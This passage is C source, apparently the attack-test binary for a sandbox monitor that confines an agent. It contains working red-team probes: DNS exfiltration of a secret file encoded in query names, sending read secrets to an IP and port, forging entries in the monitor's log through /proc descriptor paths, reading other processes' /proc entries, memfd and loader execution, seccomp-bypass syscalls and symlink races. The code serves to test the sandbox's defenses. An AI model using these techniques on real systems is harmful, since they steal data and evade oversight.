// Creates N files with O_EXCL (and opens, writes and renames them) while
// SIGALRM, with an SA_RESTART handler, arrives every 50 us: a call the monitor
// performed must never be thrown away and redone (the kernel never answers
// EEXIST for a name the same call created). (Not FIFOs: the kernel's own FIFO
// rendezvous is broken by a signal to a waiting reader, natively.)
static int signals_during_calls(int n) {
    on_signal(SIGALRM, 1);
    signal_storm(50);
    int excl = 0, other = 0;
    for (int i = 0; i < n; i++) {
        char name[64], moved[64];
        snprintf(name, sizeof name, "storm-%d", i);
        snprintf(moved, sizeof moved, "storm-%d.moved", i);
        int fd = open(name, O_CREAT | O_EXCL | O_WRONLY, 0600);
        if (fd < 0) {
            if (excl++ < 5) printf("excl %s: %s\n", name, strerror(errno));
            continue;
        }
        if (write(fd, "x", 1) != 1 && other++ < 5) printf("write %s: %s\n", name, strerror(errno));
        close(fd);
        if (rename(name, moved) != 0 && other++ < 5) printf("rename %s: %s\n", name, strerror(errno));
        if (mkdir(name, 0700) != 0 && other++ < 5) printf("mkdir %s: %s\n", name, strerror(errno));
    }
    struct itimerval off = {{0, 0}, {0, 0}};
    setitimer(ITIMER_REAL, &off, NULL);
    printf("signals=%d excl_failed=%d other_failed=%d\n", (int)sig_count, excl, other);
    return 0;
}

// A FIFO open that waits for a writer is still broken off by a signal with a
// handler: without SA_RESTART it fails EINTR; with it, it goes on waiting and
// completes when the writer comes (after the handler ran).
static int signal_breaks_a_wait(void) {
    mkfifo("wait.fifo", 0600);
    on_signal(SIGALRM, 0);
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    alarm(1);
    int fd = open("wait.fifo", O_RDONLY);
    int e = errno;
    clock_gettime(CLOCK_MONOTONIC, &t1);
    long ms = (t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000;
    printf("no-restart: fd=%d errno=%s after=%ldms handler=%d\n", fd, fd < 0 ? strerror(e) : "-", ms, (int)sig_count);
    if (fd >= 0) close(fd);
    on_signal(SIGALRM, 1);
    sig_count = 0;
    pid_t child = fork();
    if (child == 0) {
        sleep(2);
        int w = open("wait.fifo", O_WRONLY);
        if (w >= 0) { if (write(w, "late\n", 5) != 5) _exit(1); close(w); }
        _exit(0);
    }
    alarm(1);
    fd = open("wait.fifo", O_RDONLY);
    char buf[16] = {0};
    ssize_t k = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    printf("restart: fd_ok=%d read=%s handler=%d\n", fd >= 0, k == 5 ? "late" : "-", (int)sig_count);
    waitpid(child, NULL, 0);
    return 0;
}

// ---- DNS through the monitor (dns suite) ----

// Resolves NAME (IPv4) with the sandbox's resolver; prints every address, or
// the failure. Returns the first address in `out` (0 if none).
static int dns_resolve(const char *what, const char *name, struct sockaddr_in *out) {
    struct addrinfo hints, *res = NULL;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    int e = getaddrinfo(name, NULL, &hints, &res);
    if (e) {
        printf("%s %s: failed=%s\n", what, name, gai_strerror(e));
        fflush(stdout);
        return 0;
    }
    int n = 0;
    for (struct addrinfo *p = res; p; p = p->ai_next) {
        char buf[64];
        struct sockaddr_in *sa = (struct sockaddr_in *)p->ai_addr;
        inet_ntop(AF_INET, &sa->sin_addr, buf, sizeof buf);
        printf("%s %s: addr=%s\n", what, name, buf);
        if (n++ == 0 && out) *out = *sa;
    }
    fflush(stdout);
    freeaddrinfo(res);
    return n;
}

// Connects to `sa` port `port`, sends `msg`; prints what happened.
static void dns_send(const char *what, struct sockaddr_in sa, int port, const char *msg) {
    sa.sin_port = htons(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    char label[128];
    snprintf(label, sizeof label, "%s connect", what);
    int r = connect(s, (struct sockaddr *)&sa, sizeof sa);
    report(label, r);
    if (r == 0) {
        snprintf(label, sizeof label, "%s send", what);
        report(label, write(s, msg, strlen(msg)));
    }
    close(s);
}

// A query for NAME (type A) sent with the attacker's own bytes to IP:PORT over
// UDP: sendto's result, and whether an answer came within a second.
static void dns_raw_query(const char *what, const char *ip, int port, const char *name) {
    unsigned char q[512];
    int len = res_mkquery(QUERY, name, C_IN, T_A, NULL, 0, NULL, q, sizeof q);
    if (len < 0) {
        printf("%s: mkquery failed\n", what);
        return;
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &sa.sin_addr);
    char label[128];
    snprintf(label, sizeof label, "%s sendto", what);
    report(label, sendto(s, q, len, 0, (struct sockaddr *)&sa, sizeof sa));
    struct pollfd pfd = {.fd = s, .events = POLLIN};
    int ready = poll(&pfd, 1, 1000);
    printf("%s answered: %d\n", what, ready > 0);
    fflush(stdout);
    close(s);
}

// Sends `n` bytes of `b` to the sandbox's resolver over UDP.
static void to_resolver(const void *b, size_t n) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "127.0.0.53", &sa.sin_addr);
    sendto(s, b, n, MSG_DONTWAIT, (struct sockaddr *)&sa, sizeof sa);
    close(s);
}

static void dns_bind_resolver(void) {
    // Every way to take the resolver's port: its address, the wildcards, with
    // and without SO_REUSEADDR / SO_REUSEPORT, UDP and TCP.
    const char *addrs[] = {"127.0.0.53", "0.0.0.0", "::"};
    for (int a = 0; a < 3; a++) {
        for (int ty = 0; ty < 2; ty++) {
            for (int opt = 0; opt < 3; opt++) {
                int v6 = strchr(addrs[a], ':') != NULL;
                int s = socket(v6 ? AF_INET6 : AF_INET, ty ? SOCK_STREAM : SOCK_DGRAM, 0);
                int one = 1;
                if (opt == 1) setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
                if (opt == 2) setsockopt(s, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
                int r;
                if (v6) {
                    struct sockaddr_in6 sa = {.sin6_family = AF_INET6, .sin6_port = htons(53)};
                    r = bind(s, (struct sockaddr *)&sa, sizeof sa);
                } else {
                    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
                    inet_pton(AF_INET, addrs[a], &sa.sin_addr);
                    r = bind(s, (struct sockaddr *)&sa, sizeof sa);
                }
                char what[96];
                snprintf(what, sizeof what, "bind %s %s opt%d", addrs[a], ty ? "tcp" : "udp", opt);
                report(what, r);
                close(s);
            }
        }
    }
}

static void dns_flood(int n) {
    unsigned char junk[600];
    for (int i = 0; i < (int)sizeof junk; i++) junk[i] = (unsigned char)(i * 37 + 11);
    unsigned char q[512];
    int len = res_mkquery(QUERY, "flood.invalid", C_IN, T_A, NULL, 0, NULL, q, sizeof q);
    for (int i = 0; i < n; i++) {
        to_resolver(junk, 1 + (i % sizeof junk));          // garbage of every length
        if (len > 12) {
            unsigned char c[512];
            memcpy(c, q, len);
            c[2] |= 0x80;                                  // QR=1: an "answer"
            to_resolver(c, len);
            memcpy(c, q, len);
            c[5] = 2;                                      // two questions, one present
            to_resolver(c, len);
            memcpy(c, q, len);
            c[12] = 63;                                    // a label running past the end
            to_resolver(c, len);
            memcpy(c, q, len);
            c[12] = 0xc0; c[13] = 12;                      // a compression loop
            to_resolver(c, 14);
        }
    }
    // TCP: a connection that never speaks, one with a huge length, one cut short.
    for (int k = 0; k < 3; k++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
        inet_pton(AF_INET, "127.0.0.53", &sa.sin_addr);
        if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
            if (k == 1) write(s, "\xff\xff", 2);
            if (k == 2) write(s, "\x00\x40\x12", 3);
        }
        if (k != 0) close(s); // k == 0 stays open, silent
    }
    printf("flood: sent %d\n", n);
    fflush(stdout);
}

// Queries NAME over TCP (RES_USEVC): the number of answers, or the failure.
static void dns_tcp(const char *name) {
    res_init();
    _res.options |= RES_USEVC;
    unsigned char ans[1024];
    int r = res_query(name, C_IN, T_A, ans, sizeof ans);
    if (r < 0) {
        printf("tcp query %s: failed h_errno=%d\n", name, h_errno);
    } else {
        int n = r >= 12 ? (ans[6] << 8 | ans[7]) : -1; // ANCOUNT
        printf("tcp query %s: answers=%d\n", name, n);
    }
    fflush(stdout);
    _res.options &= ~RES_USEVC;
}

static int dns_main(int argc, char **argv) {
    const char *name = argv[1];
    if (!strcmp(name, "dns-connect") && argc == 5) {
        // dns-connect NAME PORT MSG: resolve, connect to the first address, send.
        struct sockaddr_in sa;
        if (dns_resolve("resolve", argv[2], &sa)) dns_send(argv[2], sa, atoi(argv[3]), argv[4]);
        return 0;
    }
    if (!strcmp(name, "dns-repeat") && argc == 6) {
        // dns-repeat NAME PORT N MSG: N times, with a pause: resolve and connect.
        for (int i = 0; i < atoi(argv[4]); i++) {
            struct sockaddr_in sa;
            if (dns_resolve("resolve", argv[2], &sa)) dns_send(argv[2], sa, atoi(argv[3]), argv[5]);
            usleep(100000);
        }
        return 0;
    }
    if (!strcmp(name, "dns-later") && argc == 6) {
        // dns-later NAME PORT SECONDS MSG: resolve, connect and send; wait; connect
        // again to the same address without resolving.
        struct sockaddr_in sa;
        if (!dns_resolve("resolve", argv[2], &sa)) return 0;
        dns_send("first", sa, atoi(argv[3]), argv[5]);
        sleep(atoi(argv[4]));
        dns_send("later", sa, atoi(argv[3]), argv[5]);
        return 0;
    }
    if (!strcmp(name, "dns-taint") && argc == 5) {
        // dns-taint MARKER SECRETFILE SUFFIX: resolve MARKER (the channel works),
        // read the secret (the taint), then ask for <secret>.SUFFIX over UDP and
        // TCP, and for MARKER again.
        dns_resolve("before", argv[2], NULL);
        int fd = open(argv[3], O_RDONLY);
        char sec[32] = {0};
        report("open secret", fd);
        if (fd >= 0) read(fd, sec, 20);
        char label[64] = {0};
        int k = 0;
        for (int i = 0; sec[i] && k < 40; i++)
            k += snprintf(label + k, sizeof label - k, "%02x", (unsigned char)sec[i]);
        char leak[256];
        snprintf(leak, sizeof leak, "%s.%s", label, argv[4]);
        dns_resolve("after", leak, NULL);
        dns_tcp(leak);
        dns_resolve("after marker", argv[2], NULL);
        return 0;
    }
    if (!strcmp(name, "dns-bind") && argc == 3) {
        // dns-bind NAME: try to take the resolver's port; then resolve NAME.
        dns_bind_resolver();
        dns_resolve("resolve after", argv[2], NULL);
        return 0;
    }
    if (!strcmp(name, "dns-flood") && argc == 4) {
        // dns-flood NAME N: malformed and crafted packets, idle TCP; then NAME.
        dns_resolve("resolve before", argv[2], NULL);
        dns_flood(atoi(argv[3]));
        dns_resolve("resolve after", argv[2], NULL);
        return 0;
    }
    if (!strcmp(name, "dns-tcp") && argc == 3) {
        dns_tcp(argv[2]);
        return 0;
    }
    if (!strcmp(name, "dns-own") && argc == 6) {
        // dns-own RESOLVER PORT NAME MARKERPORT: a query of our own to another
        // resolver (the connect rules decide it), and to the sandbox's.
        dns_raw_query("own resolver", argv[2], atoi(argv[3]), argv[4]);
        dns_raw_query("sandbox resolver", "127.0.0.53", 53, argv[4]);
        return 0;
    }
    return -1;
}

// earlyhold zmap: the rest of the attack on a second thread, after the thread-group
// leader has exited alone (red team round 5, zombie-leader-mapping).
static const char *zmap_ip, *zmap_port;
static char *zmap_map;
static void *zmap_thread(void *arg) {
    (void)arg;
    usleep(100000); // the leader is gone (a zombie) by now
    int h = open("held", O_WRONLY | O_CREAT, 0600);
    if (h >= 0) close(h);
    printf("earlyhold held\n");
    fflush(stdout);
    for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
    char buf[256] = "LEAK:";
    ssize_t k = (ssize_t)strnlen(zmap_map, 200);
    memcpy(buf + 5, zmap_map, k);
    printf("earlyhold read: %zd\n", k);
    fflush(stdout);
    struct sockaddr_in sa;
    int s = inet_socket(SOCK_STREAM, zmap_ip, atoi(zmap_port), &sa);
    long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
    if (s >= 0) report("earlyhold connect", r);
    if (r == 0 && k > 0) report("earlyhold send", send(s, buf, 5 + k, 0));
    fflush(stdout);
    _exit(0);
}

/* Starts `n` idle fillers (red team round 5: a longer late-mark scan), each
 * holding about 20,000 duplicates of /dev/null (the hard RLIMIT_NOFILE, raised
 * to) and not `keep` (closed in them); returns once all hold them, with how many
 * descriptors each holds, or -1. Their pids go to `pids`. */
static long start_fillers(int n, int keep, pid_t *pids) {
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
    long nfd = rl.rlim_cur > 20064 ? 20064 : (long)rl.rlim_cur - 1;
    int pp[2];
    if (pipe(pp) != 0) return -1;
    for (int i = 0; i < n; i++) {
        if ((pids[i] = fork()) == 0) {
            close(keep);
            int d = open("/dev/null", O_RDONLY);
            for (long k = 64; k < nfd; k++)
                if (dup2(d, (int)k) < 0) break;
            if (write(pp[1], "x", 1) != 1) _exit(1);
            pause();
            _exit(0);
        }
    }
    for (int i = 0; i < n; i++) {
        char c;
        if (read(pp[0], &c, 1) != 1) return -1;
    }
    close(pp[0]);
    close(pp[1]);
    return nfd;
}

/* deepchain (red team round 6, deep-nested-pidns): a chain of processes in a pid
 * namespace of their own, each cloning the next (CLONE_VM: its own 16 KiB of a
 * shared stack area) and waiting for it; the last opens `deep_path`, reads it,
 * and connects and sends it. */
static const char *deep_path, *deep_ip, *deep_port;
static int deep_depth;
static char *deep_stacks;
static int deep_level(void *arg) {
    long l = (long)arg;
    if (l >= deep_depth) {
        int fd = open(deep_path, O_RDONLY);
        report("deepchain open", fd);
        char buf[256] = "LEAK:";
        ssize_t k = fd >= 0 ? read(fd, buf + 5, sizeof buf - 6) : -1;
        printf("deepchain read at depth %ld: %zd\n", l, k);
        fflush(stdout);
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, deep_ip, atoi(deep_port), &sa);
        long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
        if (s >= 0) report("deepchain connect", r);
        if (r == 0 && k > 0) report("deepchain send", send(s, buf, 5 + k, 0));
        return 0;
    }
    pid_t k = clone(deep_level, deep_stacks + (l + 1) * 16384, CLONE_VM | SIGCHLD, (void *)(l + 1));
    if (k < 0) return 1;
    int st = 0;
    waitpid(k, &st, __WALL);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}
static int deep_chain(void *unused) {
    (void)unused;
    deep_stacks = mmap(0, (size_t)(deep_depth + 2) * 16384, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (deep_stacks == MAP_FAILED) return 1;
    return deep_level((void *)1L);
}
static char deep_stack0[1 << 16];

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: attack NAME [ARGS]\n");
        return 2;
    }
    const char *name = argv[1];
    signal(SIGPIPE, SIG_IGN);
    if (!strncmp(name, "dns-", 4)) {
        int r = dns_main(argc, argv);
        if (r >= 0) return r;
    }

    if (!strcmp(name, "signals-during-calls") && argc >= 3) return signals_during_calls(atoi(argv[2]));
    if (!strcmp(name, "signal-breaks-a-wait")) return signal_breaks_a_wait();
    if (!strcmp(name, "pid-tamper") && argc >= 3) {
        // Every pid-taking call against each target, then ordinary mediated work
        // (which the monitor must still decide and log).
        for (int i = 2; i < argc; i++) tamper(argv[i]);
        report("setpriority PRIO_PGRP 0", setpriority(PRIO_PGRP, 0, 19));
        report("setpriority PRIO_USER 0", setpriority(PRIO_USER, 0, 19));
        report("ioprio_set WHO_USER 0", syscall(SYS_ioprio_set, 3, 0, (3 << 13)));
        int fd = open("ok.txt", O_RDONLY);
        report("open after", fd);
        FILE *f = fopen("tampered", "w");
        if (f) fclose(f);
        usleep(1500000); // the test looks at clawless now
        fd = open("ok.txt", O_RDONLY);
        report("open at end", fd);
        printf("pid-tamper done\n");
        return 0;
    }
    if (!strcmp(name, "daemons") && argc >= 4) {
        // A setsid daemon and a double-forked orphan, both named by argv[2]
        // (their argv[0]), each logging the result of a mediated open every 100 ms
        // to argv[3].N. argv[4] == "wait": the command itself stays.
        for (int k = 0; k < 2; k++) {
            pid_t p = fork();
            if (p == 0) {
                if (k == 0) setsid();
                if (fork() != 0) _exit(0);
                char log[512];
                snprintf(log, sizeof log, "%s.%d", argv[3], k);
                int lfd = open(log, O_WRONLY | O_CREAT | O_APPEND, 0644);
                for (int i = 0; i < 3000; i++) {
                    int fd = open("ok.txt", O_RDONLY);
                    dprintf(lfd, "open: %d errno=%d\n", fd, fd < 0 ? errno : 0);
                    if (fd >= 0) close(fd);
                    usleep(100000);
                }
                _exit(0);
            }
            waitpid(p, NULL, 0);
        }
        // Started means running: both have logged their first open.
        for (int i = 0; i < 300; i++) {
            int up = 0;
            for (int k = 0; k < 2; k++) {
                char log[512];
                struct stat st;
                snprintf(log, sizeof log, "%s.%d", argv[3], k);
                if (stat(log, &st) == 0 && st.st_size > 0) up++;
            }
            if (up == 2) break;
            usleep(20000);
        }
        printf("daemons started\n");
        fflush(stdout);
        if (argc >= 5 && !strcmp(argv[4], "wait")) sleep(300);
        return 0;
    }
    if (!strcmp(name, "proc-spellings") && argc >= 3) {
        // Every spelling of "my own descriptor N" aimed at the monitor's: for each,
        // try N in 0..63 for writing; report any that reaches argv[2].
        // Also the parent's own numbers: clawless itself in mediated mode.
        char ppid_fmt[64];
        snprintf(ppid_fmt, sizeof ppid_fmt, "/proc/%d/fd/%%d", (int)getppid());
        const char *fmts[] = {"//proc/thread-self/fd/%d", "/proc/./self/fd/%d", "/proc/self/../self/fd/%d",
                              "/proc/1/../thread-self/fd/%d", "/dev//fd/%d", "//dev/./fd/%d",
                              "/proc//self//fd//%d", "/../proc/thread-self/fd/%d", "/proc/1/fd/%d",
                              "/proc/1/task/1/fd/%d", "self/fd/%d", "thread-self/fd/%d", ppid_fmt};
        int tried = 0, reached = 0;
        int procdir = open("/proc", O_RDONLY | O_DIRECTORY);
        for (size_t i = 0; i < sizeof fmts / sizeof *fmts; i++) {
            for (int n = 0; n < 64; n++) {
                char p[128];
                snprintf(p, sizeof p, fmts[i], n);
                int fd = p[0] == '/' ? open(p, O_WRONLY | O_APPEND)
                                     : (procdir >= 0 ? openat(procdir, p, O_WRONLY | O_APPEND) : -1);
                tried++;
                if (fd < 0) continue;
                char link[64], target[512] = {0};
                snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
                if (readlink(link, target, sizeof target - 1) > 0 && strstr(target, argv[2])) {
                    reached++;
                    printf("reached %s via %s\n", target, p);
                    dprintf(fd, "{\"forged\":\"ATTACKER-WAS-HERE\"}\n");
                    ftruncate(fd, 0);
                }
                close(fd);
            }
        }
        printf("proc-spellings: tried=%d reached=%d\n", tried, reached);
        return 0;
    }
    if (!strcmp(name, "proc-outside") && argc >= 4) {
        // /proc/<outside pid>/fd/N (a deleted private file it holds), and its
        // other entries.
        const char *pid = argv[2], *n = argv[3];
        char p[256];
        int leaked = 0;
        const char *fmts[] = {"/proc/%s/fd/%s", "//proc/%s/fd/%s", "/proc/%s/task/%s/../../fd/%s", "/proc/%s/environ",
                              "/proc/%s/root/proc/%s/fd/%s", "/proc/%s/cwd", "/proc/%s/mem"};
        for (size_t i = 0; i < sizeof fmts / sizeof *fmts; i++) {
            snprintf(p, sizeof p, fmts[i], pid, i == 2 ? pid : n, n);
            if (i == 4) snprintf(p, sizeof p, fmts[i], pid, pid, n);
            int fd = open(p, O_RDONLY);
            report(p, fd);
            if (fd >= 0 && holds_secret(fd)) leaked++;
        }
        // Through a symlink in the workspace.
        snprintf(p, sizeof p, "/proc/%s/fd/%s", pid, n);
        unlink("plink");
        if (symlink(p, "plink") == 0) {
            int fd = open("plink", O_RDONLY);
            report("symlink to it", fd);
            if (fd >= 0 && holds_secret(fd)) leaked++;
        }
        printf("proc-outside: leaked=%d\n", leaked);
        return 0;
    }
    if (!strcmp(name, "exec-probe")) {
        printf("EXECUTED-THE-COPY\n");
        return 0;
    }
    if (!strcmp(name, "tmp-exec") && argc >= 4) {
        // argv[2]: where to copy ourselves (a never-executable directory);
        // argv[3]: the dynamic loader.
        const char *copy = argv[2];
        int in = open("/proc/self/exe", O_RDONLY);
        int out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        char buf[65536];
        ssize_t k;
        while (in >= 0 && out >= 0 && (k = read(in, buf, sizeof buf)) > 0) write(out, buf, k);
        close(in);
        close(out);
        struct stat st;
        report("copied", stat(copy, &st) == 0 ? st.st_size : -1);
        char *args[] = {(char *)copy, "exec-probe", NULL};
        char *ldargs[] = {(char *)argv[3], (char *)copy, "exec-probe", NULL};
        for (int how = 0; how < 2; how++) {
            pid_t p = fork();
            if (p == 0) {
                if (how == 0) execv(copy, args);
                else execv(argv[3], ldargs);
                printf("%s: errno=%d\n", how == 0 ? "execve(copy)" : "execve(ld.so, copy)", errno);
                fflush(stdout);
                _exit(126);
            }
            int status = 0;
            waitpid(p, &status, 0);
            printf("%s: exit=%d\n", how == 0 ? "run copy" : "run via ld.so", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
        }
        fflush(stdout);
        int fd = open(copy, O_RDONLY);
        report("open copy", fd);
        void *m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
        report("mmap(PROT_EXEC)", m == MAP_FAILED ? -1 : 0);
        void *r = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        report("mmap(PROT_READ)", r == MAP_FAILED ? -1 : 0);
        if (r != MAP_FAILED) report("mprotect(PROT_EXEC)", mprotect(r, 4096, PROT_READ | PROT_EXEC));
        unlink(copy);
        printf("tmp-exec done\n");
        return 0;
    }
    if (!strcmp(name, "no-namespaces") && argc >= 3) {
        // Runs argv[2..] where creating a pid namespace fails with EPERM (as on a
        // kernel or distribution that disallows it): clone/unshare with
        // CLONE_NEWPID, and clone3 (ENOSYS, so libc falls back to clone).
        struct sock_filter f[] = {
            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone3, 0, 1),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone, 1, 0),
            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 3),
            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
            BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, CLONE_NEWPID, 0, 1),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        struct sock_fprog prog = {sizeof f / sizeof *f, f};
        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog)) {
            perror("no-namespaces: seccomp");
            return 2;
        }
        printf("no-namespaces: filter on\n");
        fflush(stdout);
        execv(argv[2], argv + 2);
        perror("no-namespaces: exec");
        return 127;
    }
    if (!strcmp(name, "x32")) {
        // getpid with the x32 bit: a filter that forgets x32 lets it through.
        report("x32 getpid", syscall(0x40000000 | 39));
        return 0;
    }
    if (!strcmp(name, "int80")) {
        long r;
        // i386 getpid (20) through the 32-bit entry point.
        __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory");
        printf("int80 getpid: %ld\n", r);
        return 0;
    }
    if (!strcmp(name, "truncation")) {
        char c = 'x';
        // TIOCSTI with garbage in the upper half: the kernel reads 32 bits.
        report("ioctl TIOCSTI|1<<32", syscall(SYS_ioctl, 0, (1UL << 32) | TIOCSTI, &c));
        report("ioctl TIOCSTI", syscall(SYS_ioctl, 0, TIOCSTI, &c));
        report("ioctl TIOCLINUX", syscall(SYS_ioctl, 0, TIOCLINUX, &c));
        return 0;
    }
    if (!strcmp(name, "io_uring")) {
        char params[120] = {0};
        report("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
        return 0;
    }
    if (!strcmp(name, "ptrace")) {
        report("ptrace(TRACEME)", ptrace(PTRACE_TRACEME, 0, 0, 0));
        return 0;
    }
    if (!strcmp(name, "process_vm_writev")) {
        char src[8] = "patched", dst[8] = {0};
        struct iovec l = {src, 8}, r = {dst, 8};
        report("process_vm_writev", syscall(SYS_process_vm_writev, getpid(), &l, 1, &r, 1, 0));
        return 0;
    }
    if (!strcmp(name, "userfaultfd")) {
        report("userfaultfd", syscall(SYS_userfaultfd, 0));
        return 0;
    }
    if (!strcmp(name, "clone3")) {
        uint64_t args[11] = {0};
        args[4] = SIGCHLD;  // exit_signal
        long r = syscall(SYS_clone3, args, sizeof args);
        if (r == 0) _exit(0);
        report("clone3", r);
        pthread_t t;
        int e = pthread_create(&t, NULL, noop, NULL);
        if (e == 0) pthread_join(t, NULL);
        printf("pthread_create: %s\n", e == 0 ? "ok" : strerror(e));
        pid_t p = fork();
        if (p == 0) _exit(0);
        printf("fork: %s\n", p > 0 ? "ok" : strerror(errno));
        return 0;
    }
    if (!strcmp(name, "proc-mem")) {
        report("open /proc/self/mem O_RDWR", open("/proc/self/mem", O_RDWR));
        return 0;
    }
    if (!strcmp(name, "race") && argc == 5) {
        // race GOOD BAD N: open a buffer another thread flips between GOOD and BAD.
        race_a = argv[2];
        race_b = argv[3];
        int n = atoi(argv[4]), good = 0, leaked = 0;
        strcpy(race_buf, race_a);
        pthread_t t;
        pthread_create(&t, NULL, flipper, NULL);
        open_loop(race_buf, n, &good, &leaked);
        race_stop = 1;
        pthread_join(t, NULL);
        printf("race: good=%d leaked=%d rounds=%d refused=%d other=%d\n", good, leaked, loop_rounds, loop_refused, loop_other);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "symlink-swap") && argc == 6) {
        // symlink-swap LINK GOOD BAD N
        swap_link = argv[2];
        swap_good = argv[3];
        swap_bad = argv[4];
        int n = atoi(argv[5]), good = 0, leaked = 0;
        pthread_t t;
        pthread_create(&t, NULL, swapper, NULL);
        open_loop(swap_link, n, &good, &leaked);
        race_stop = 1;
        pthread_join(t, NULL);
        printf("symlink-swap: good=%d leaked=%d rounds=%d refused=%d other=%d\n", good, leaked, loop_rounds, loop_refused, loop_other);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "openat2") && argc == 4) {
        // openat2 SECRET LINK_IN_WORKSPACE: several ways to name the secret.
        const char *secret = argv[2], *link = argv[3];
        int leaked = 0;
        struct open_how how = {.flags = O_RDONLY};
        const struct { const char *path; uint64_t resolve; } tries[] = {
            {secret, 0},
            {link, 0},
            {link, RESOLVE_NO_MAGICLINKS},
            {link, RESOLVE_NO_XDEV},
        };
        for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++) {
            how.resolve = tries[i].resolve;
            long fd = syscall(SYS_openat2, AT_FDCWD, tries[i].path, &how, sizeof how);
            report(tries[i].path, fd);
            if (fd >= 0 && holds_secret(fd)) leaked++;
        }
        char via_proc[600];
        snprintf(via_proc, sizeof via_proc, "/proc/self/root%s", secret);
        how.resolve = 0;
        long fd = syscall(SYS_openat2, AT_FDCWD, via_proc, &how, sizeof how);
        report(via_proc, fd);
        if (fd >= 0 && holds_secret(fd)) leaked++;
        // An O_PATH handle on the link, then re-opened through /proc/self/fd.
        int h = open(link, O_PATH);
        report("O_PATH link", h);
        if (h >= 0) {
            char re[64];
            snprintf(re, sizeof re, "/proc/self/fd/%d", h);
            fd = open(re, O_RDONLY);
            report("reopen via /proc/self/fd", fd);
            if (fd >= 0 && holds_secret(fd)) leaked++;
        }
        printf("openat2: leaked=%d\n", leaked);
        return leaked ? 1 : 0;
    }
    if (!strcmp(name, "memfd-exec")) {
        int src = open("/bin/true", O_RDONLY);
        int m = memfd_create("payload", MFD_CLOEXEC);
        char buf[65536];
        ssize_t k;
        while ((k = read(src, buf, sizeof buf)) > 0) write(m, buf, k);
        char *args[] = {"payload", NULL}, *env[] = {NULL};
        long r = syscall(SYS_execveat, m, "", args, env, AT_EMPTY_PATH);
        report("execveat(memfd, AT_EMPTY_PATH)", r);
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", m);
        report("execve(/proc/self/fd/N)", execve(p, args, env));
        if (argc == 3) {
            // A copy in a directory the policy does not let run (tmp).
            int d = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);
            lseek(m, 0, SEEK_SET);
            while ((k = read(m, buf, sizeof buf)) > 0) write(d, buf, k);
            close(d);
            report("execve(copy in tmp)", execve(argv[2], args, env));
        }
        printf("memfd-exec: still here\n");
        return 0;
    }
    if (!strcmp(name, "unix") && argc >= 3) {
        // unix PATH... : pathname sockets; unix @NAME: abstract.
        for (int i = 2; i < argc; i++) {
            struct sockaddr_un sa = {.sun_family = AF_UNIX};
            socklen_t len;
            if (argv[i][0] == '@') {
                strncpy(sa.sun_path + 1, argv[i] + 1, sizeof sa.sun_path - 2);
                len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[i] + 1);
            } else {
                strncpy(sa.sun_path, argv[i], sizeof sa.sun_path - 1);
                len = sizeof sa;
            }
            int s = socket(AF_UNIX, SOCK_STREAM, 0);
            report(argv[i], connect(s, (struct sockaddr *)&sa, len));
        }
        return 0;
    }
    if (!strcmp(name, "send-hoard") && argc == 4) {
        // send-hoard N SECONDS: N children each block in a 1 MiB sendmsg on a
        // socketpair nobody reads (the buffer shared copy-on-write: they cost
        // the agent next to nothing); the monitor must not hold 1 MiB for each.
